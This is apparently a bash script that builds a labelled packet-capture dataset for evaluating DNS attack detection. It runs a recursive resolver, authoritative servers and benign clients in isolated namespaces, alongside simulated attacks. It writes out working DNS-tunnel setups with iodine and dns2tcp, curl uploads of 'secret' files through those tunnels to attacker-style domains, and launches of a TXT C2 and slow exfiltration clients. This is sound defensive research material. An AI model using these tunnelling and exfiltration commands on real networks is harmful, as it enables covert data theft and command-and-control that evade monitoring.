#!/bin/bash
# Makes the dns-resolver dataset: DNS as a capture on a recursive resolver's
# host sees it, both legs (clients <-> resolver, resolver <-> authoritative
# servers), with attacks from their own clients among benign ones.
#
#   sudo bash scripts/eval/gen/dns-resolver.sh [OUTDIR]     (default testdata/eval)
#   DURATION=1800 (seconds of traffic; the attacks scale with it), SEED=1
#
# Writes OUTDIR/dns-resolver.pcap.gz and OUTDIR/dns-resolver.labels.csv.gz.
# Needs root; installs the Debian packages it lacks. All traffic stays in
# network namespaces named s15d-* on one bridge, made here and deleted at
# exit. Real programs throughout:
#   resolver       unbound (Debian 1.17) with its defaults (cache, qname
#                  minimisation, EDNS buffer 1232), root hints of our root
#   authoritative  nsd (root, TLDs, three hosting providers, the company's
#                  internal zone) and knot (two hosting providers) serving
#                  the zones zones.py builds from Debian's name lists
#   clients        glibc's stub (getaddrinfo, per-host resolv.conf options)
#                  and dnspython's (dnsclient.py roles)
#   attacks        iodine/iodined 0.7.0 and dns2tcpc/dns2tcpd 0.5.2 carrying
#                  HTTP downloads and uploads; a TXT C2 and two slow
#                  exfiltrations (dnsclient.py, dnsserver.py)
#   capture        tcpdump on the resolver's interface; labels from tshark
set -euo pipefail
HERE="$(cd "$(dirname "$0")" && pwd)"
OUT="$(realpath -m "${1:-$HERE/../../../testdata/eval}")"
DURATION="${DURATION:-1800}"
SEED="${SEED:-1}"
NAME="${NAME:-dns-resolver}"
PY=/usr/bin/python3
. "$HERE/lab.sh"
[ "$(id -u)" = 0 ] || { echo "dns-resolver.sh: needs root (network namespaces)" >&2; exit 1; }
[ "$DURATION" -ge 120 ] && [ "$DURATION" -le 2700 ] || { echo "DURATION must be 120..2700 s" >&2; exit 2; }

need unbound nsd knot iodine dns2tcp tcpdump tshark python3-dnslib python3-dnspython ethtool curl \
     iproute2 webext-privacy-badger python3-apt publicsuffix chrony
W="$(mktemp -d /tmp/s15d-dns.XXXXXX)"
PIDS=()
finish() {
  local p
  for p in "${PIDS[@]}"; do kill -TERM "$p" 2>/dev/null || true; done
  lab_down
  [ -n "${KEEP:-}" ] && echo "work dir kept: $W" >&2 || rm -rf "$W"
}
trap finish EXIT
spawn() { "$@" & PIDS+=($!); }

echo "building zones" >&2
$PY "$HERE/zones.py" "$W" "$SEED"

# ---- the network ----
lab_up
AUTH=(10.15.1.1/16 10.15.1.2/16 10.15.2.1/16 10.15.2.2/16 10.15.2.3/16 10.15.2.4/16 10.15.4.1/16 10.15.4.2/16
      10.15.9.1/16 10.15.9.2/16 10.15.9.3/16 10.15.9.4/16 10.15.9.5/16)
for i in $(seq 1 10); do AUTH+=("10.15.3.$i/16"); done
lab_host auth "${AUTH[@]}"
lab_host res 10.15.0.53/16 fd15::53/64
# clients: name, IPv4 address, resolv.conf
declare -A CLIENT_IP CLIENT_RESOLV
client() { CLIENT_IP[$1]="$2"; CLIENT_RESOLV[$1]="$3"; }
STD='search corp.internal\nnameserver 10.15.0.53\n'
for i in 01 02 03 04 05 06 07 08 09 10; do client "ws$i" "10.15.10.${i#0}" "$STD"; done
client ws04 10.15.10.4 "${STD}options edns0 trust-ad\n"
client ws07 10.15.10.7 "${STD}options single-request\n"
client ws11 10.15.10.11 'search corp.internal\nnameserver fd15::53\n'
client ws12 10.15.10.12 'search corp.internal\nnameserver fd15::53\noptions edns0\n'
client ws13 10.15.10.13 "${STD}options use-vc\n"
client mail 10.15.5.12 'nameserver 10.15.0.53\n'
client ntp 10.15.5.20 "$STD"
client mon 10.15.5.19 "$STD"
client proxy 10.15.5.17 'nameserver 10.15.0.53\noptions edns0\n'
for a in 21 22 23 24 25; do client "ws$a" "10.15.10.$a" "$STD"; done
for c in "${!CLIENT_IP[@]}"; do
  n=${CLIENT_IP[$c]##*.}
  lab_host "$c" "${CLIENT_IP[$c]}/16" "fd15::10:$n/64"
  lab_resolv "$c" "${CLIENT_RESOLV[$c]}"
done

# ---- authoritative servers ----
$PY - "$W" <<'PY'
import json, os, sys
w = sys.argv[1]
servers = json.load(open(f"{w}/servers.json"))
for name, (sw, addrs, zones) in servers.items():
    d = f"{w}/srv-{name}"
    os.makedirs(d, exist_ok=True)
    if sw == "nsd":
        c = ["server:"] + [f"  ip-address: {a}@53" for a in addrs]
        c += ["  do-ip6: no", "  server-count: 1", f'  zonesdir: "{w}/zones"', '  database: ""',
              f'  zonelistfile: "{d}/zone.list"', f'  xfrdfile: "{d}/xfrd.state"', f'  xfrdir: "{d}"',
              f'  pidfile: "{d}/nsd.pid"', f'  logfile: "{d}/nsd.log"', '  username: ""', '  chroot: ""',
              "  verbosity: 1", "  hide-version: yes", "  rrl-ratelimit: 0", "  refuse-any: yes",
              "remote-control:", "  control-enable: no"]
        for z, f in zones:
            c += ["zone:", f'  name: "{z}"', f'  zonefile: "{f}"']
        open(f"{d}/nsd.conf", "w").write("\n".join(c) + "\n")
    else:
        c = ["server:", f'    rundir: "{d}"', "    listen: [ " + ", ".join(f"{a}@53" for a in addrs) + " ]",
             "    identity: \"\"", "    version: \"\"",
             "database:", f'    storage: "{d}/db"', "log:", "  - target: stderr", "    any: warning",
             "template:", "  - id: default", f'    storage: "{w}/zones"', "    zonefile-load: whole",
             "    journal-content: none", "    zonefile-sync: -1", "zone:"]
        for z, f in zones:
            c += [f'  - domain: "{z}"', f'    file: "{f}"']
        open(f"{d}/knot.conf", "w").write("\n".join(c) + "\n")
print(" ".join(f"{n}:{sw}" for n, (sw, _, _) in servers.items()))
PY
for d in "$W"/srv-*; do
  if [ -f "$d/nsd.conf" ]; then spawn lab_exec auth nsd -d -c "$d/nsd.conf" >"$d/out.log" 2>&1
  else spawn lab_exec auth knotd -c "$d/knot.conf" >"$d/out.log" 2>&1; fi
done

# the attackers' servers and the files they serve
mkdir -p "$W/www" "$W/loot"
head -c 150000 /dev/urandom >"$W/www/update.bin"
head -c 60000 /dev/urandom | base64 >"$W/www/notes.txt"
head -c 100000 /dev/urandom >"$W/www/payload.bin"
head -c 1600 /usr/share/common-licenses/Apache-2.0 >"$W/secret-hex.txt"
gzip -9c /usr/share/common-licenses/GPL-3 | head -c 2400 >"$W/secret-b32.bin"
spawn lab_exec auth "$PY" "$HERE/dnsserver.py" http 0.0.0.0 8080 "$W/www" >"$W/http.log" 2>&1
spawn lab_exec auth "$PY" "$HERE/dnsserver.py" c2 10.15.9.3 weathersvc.org "$W/c2.log" >"$W/c2.out" 2>&1
spawn lab_exec auth "$PY" "$HERE/dnsserver.py" exfil 10.15.9.4 imgstore.io "$W/loot/hex.out" >"$W/exhex.out" 2>&1
spawn lab_exec auth "$PY" "$HERE/dnsserver.py" exfil 10.15.9.5 telemetry-hub.com "$W/loot/b32.out" >"$W/exb32.out" 2>&1
spawn lab_exec auth iodined -f -c -l 10.15.9.1 -n 10.15.9.1 -P s15dpass 172.31.15.1/27 t.statsync.net >"$W/iodined.log" 2>&1
mkdir -p /var/empty
cat >"$W/dns2tcpd.conf" <<EOF
listen = 10.15.9.2
port = 53
user = nobody
chroot = /var/empty
domain = dl.mediacdn-update.com
resources = http:127.0.0.1:8080
EOF
spawn lab_exec auth dns2tcpd -F -f "$W/dns2tcpd.conf" >"$W/dns2tcpd.log" 2>&1

# ---- the resolver ----
cat >"$W/unbound.conf" <<EOF
server:
  interface: 10.15.0.53
  interface: fd15::53
  access-control: 10.15.0.0/16 allow
  access-control: fd15::/64 allow
  root-hints: "$W/root.hints"
  username: ""
  chroot: ""
  directory: "$W"
  pidfile: "$W/unbound.pid"
  use-syslog: no
  logfile: "$W/unbound.log"
  verbosity: 1
  num-threads: 1
  local-zone: "10.in-addr.arpa." nodefault
  # unbound's default is qname-minimisation: yes. dns2tcpd does not answer
  # the minimised A queries (=auth.dl.<domain>), so every tunnel query waited
  # ~5 s of retries and dns2tcpc gave up ("No response from DNS"), and
  # iodine's downstream probe fell to 43-byte fragments. Minimisation is off,
  # as on resolvers that do not implement it (Windows DNS Server).
  qname-minimisation: no
stub-zone:
  name: "corp.internal"
  stub-addr: 10.15.4.1
  stub-addr: 10.15.4.2
stub-zone:
  name: "10.in-addr.arpa"
  stub-addr: 10.15.4.1
remote-control:
  control-enable: no
EOF
unbound-checkconf "$W/unbound.conf" >/dev/null
sleep 8  # the name servers load some thousand zones
spawn lab_exec res tcpdump -i eth0 -n -U -s 0 -w "$W/cap.pcap" "port 53 or icmp or icmp6" >"$W/tcpdump.log" 2>&1
sleep 1
spawn lab_exec res unbound -d -c "$W/unbound.conf" >"$W/unbound.out" 2>&1
sleep 2
ok=
for t in $(seq 40); do  # the name servers may still be loading zones on a busy machine
  if lab_exec ws01 getent ahosts www.wikipedia.org >/dev/null; then ok=1; break; fi
  sleep 3
done
[ -n "$ok" ] || { echo "resolver check failed" >&2; tail "$W/unbound.log" "$W"/srv-*/*.log >&2; exit 1; }
T0=$(date +%s)
echo "traffic for $DURATION s from $(date -u +%H:%M:%S)" >&2

# ---- benign clients ----
k=0
think=(0 30 50 75 40 120 45 90 60 70 100 45 80 60)
for c in ws01 ws02 ws03 ws04 ws05 ws06 ws07 ws08 ws09 ws10 ws11 ws12 ws13; do
  k=$((k + 1))
  spawn lab_exec "$c" timeout $((DURATION + 30)) "$PY" "$HERE/dnsclient.py" workstation "$W/names.json" $((SEED * 100 + k)) "$DURATION" "${think[$k]}" >>"$W/clients.log" 2>&1
done
spawn lab_exec mail timeout $((DURATION + 30)) "$PY" "$HERE/dnsclient.py" mail "$W/names.json" $((SEED * 100 + 31)) "$DURATION" >>"$W/clients.log" 2>&1
spawn lab_exec ntp timeout $((DURATION + 30)) "$PY" "$HERE/dnsclient.py" periodic "$W/names.json" $((SEED * 100 + 32)) "$DURATION" >>"$W/clients.log" 2>&1
spawn lab_exec mon timeout $((DURATION + 30)) "$PY" "$HERE/dnsclient.py" monitor "$W/names.json" $((SEED * 100 + 33)) "$DURATION" >>"$W/clients.log" 2>&1
spawn lab_exec proxy timeout $((DURATION + 30)) "$PY" "$HERE/dnsclient.py" crawler "$W/names.json" $((SEED * 100 + 34)) "$DURATION" >>"$W/clients.log" 2>&1
# the attackers' hosts browse too
k=40
for c in ws21 ws22 ws23 ws24 ws25; do
  k=$((k + 1))
  spawn lab_exec "$c" timeout $((DURATION + 30)) "$PY" "$HERE/dnsclient.py" workstation "$W/names.json" $((SEED * 100 + k)) "$DURATION" 60 >>"$W/clients.log" 2>&1
done

# ---- attacks ----
spawn lab_exec ws23 timeout $((DURATION + 30)) "$PY" "$HERE/dnsclient.py" c2 "$W/names.json" $((SEED * 100 + 51)) "$DURATION" >>"$W/attacks.log" 2>&1
spawn lab_exec ws24 timeout $((DURATION + 30)) "$PY" "$HERE/dnsclient.py" exfil-hex "$W/names.json" $((SEED * 100 + 52)) "$DURATION" "$W/secret-hex.txt" >>"$W/attacks.log" 2>&1
spawn lab_exec ws25 timeout $((DURATION + 30)) "$PY" "$HERE/dnsclient.py" exfil-base32 "$W/names.json" $((SEED * 100 + 53)) "$DURATION" "$W/secret-b32.bin" >>"$W/attacks.log" 2>&1

tunnel_iodine() { # a session of 1/2 the run: a download, an upload, a shell-like trickle, idle pings
  local left=$((DURATION / 2))
  sleep $((DURATION / 20))
  lab_exec ws21 timeout "$left" iodine -f -r -P s15dpass 10.15.0.53 t.statsync.net >"$W/iodine.log" 2>&1 &
  local ip=$!
  local t; for t in $(seq 60); do lab_exec ws21 ip -4 addr show dns0 2>/dev/null | grep -q 172.31.15 && break; sleep 1; done
  lab_exec ws21 timeout 300 curl -s -o "$W/loot/iodine-update.bin" http://172.31.15.1:8080/update.bin || echo "iodine download failed" >&2
  sleep 20
  lab_exec ws21 timeout 300 curl -s -T "$W/www/notes.txt" http://172.31.15.1:8080/notes-ws21.txt || echo "iodine upload failed" >&2
  for t in $(seq 10); do sleep $((10 + RANDOM % 20)); lab_exec ws21 timeout 60 curl -s -o /dev/null "http://172.31.15.1:8080/?cmd=$t" || true; done
  wait "$ip" || true
}
tunnel_dns2tcp() { # a session of 1/3 of the run, from 2/5 on
  sleep $((DURATION * 2 / 5))
  lab_exec ws22 timeout $((DURATION / 3)) dns2tcpc -z dl.mediacdn-update.com -r http -l 8081 10.15.0.53 >"$W/dns2tcpc.log" 2>&1 &
  local cp=$!
  sleep 3
  lab_exec ws22 timeout 300 curl -s -o "$W/loot/dns2tcp-payload.bin" http://127.0.0.1:8081/payload.bin || echo "dns2tcp download failed" >&2
  sleep 15
  lab_exec ws22 timeout 300 curl -s -T "$W/secret-hex.txt" http://127.0.0.1:8081/doc-ws22.txt || echo "dns2tcp upload failed" >&2
  local t; for t in $(seq 5); do sleep $((15 + RANDOM % 30)); lab_exec ws22 timeout 60 curl -s -o /dev/null "http://127.0.0.1:8081/?id=$t" || true; done
  wait "$cp" || true
}
tunnel_iodine & PIDS+=($!)
tunnel_dns2tcp & PIDS+=($!)

while [ $(($(date +%s) - T0)) -lt $((DURATION + 5)) ]; do sleep 5; done
sleep 5
for p in "${PIDS[@]}"; do kill -TERM "$p" 2>/dev/null || true; done
sleep 2
lab_down
PIDS=()

# ---- outcome of the attacks ----
check() { if cmp -s "$1" "$2"; then echo "$3: complete ($(stat -c %s "$1") bytes)"; else echo "$3: INCOMPLETE ($(stat -c %s "$2" 2>/dev/null || echo 0) of $(stat -c %s "$1") bytes)"; fi; }
{
  check "$W/www/update.bin" "$W/loot/iodine-update.bin" "iodine download"
  check "$W/www/notes.txt" "$W/www/upload-notes-ws21.txt" "iodine upload"
  check "$W/www/payload.bin" "$W/loot/dns2tcp-payload.bin" "dns2tcp download"
  check "$W/secret-hex.txt" "$W/www/upload-doc-ws22.txt" "dns2tcp upload"
  check "$W/secret-hex.txt" "$W/loot/hex.out" "exfil-hex file"
  check "$W/secret-b32.bin" "$W/loot/b32.out" "exfil-base32 file"
  echo "c2: $(grep -c ' poll ' "$W/c2.log" || true) polls, $(grep -c ' result ' "$W/c2.log" || true) result queries (server side, full names)"
} | tee "$W/outcome.txt" >&2

# ---- labels and outputs ----
mkdir -p "$OUT"
$PY "$HERE/label_dns.py" "$W/cap.pcap" "$W/names.json" >"$W/labels.csv"
gzip -9nc "$W/cap.pcap" >"$OUT/$NAME.pcap.gz"
gzip -9nc "$W/labels.csv" >"$OUT/$NAME.labels.csv.gz"
cp "$W/outcome.txt" "$OUT/$NAME.outcome.txt"
ls -la "$OUT/$NAME".* >&2
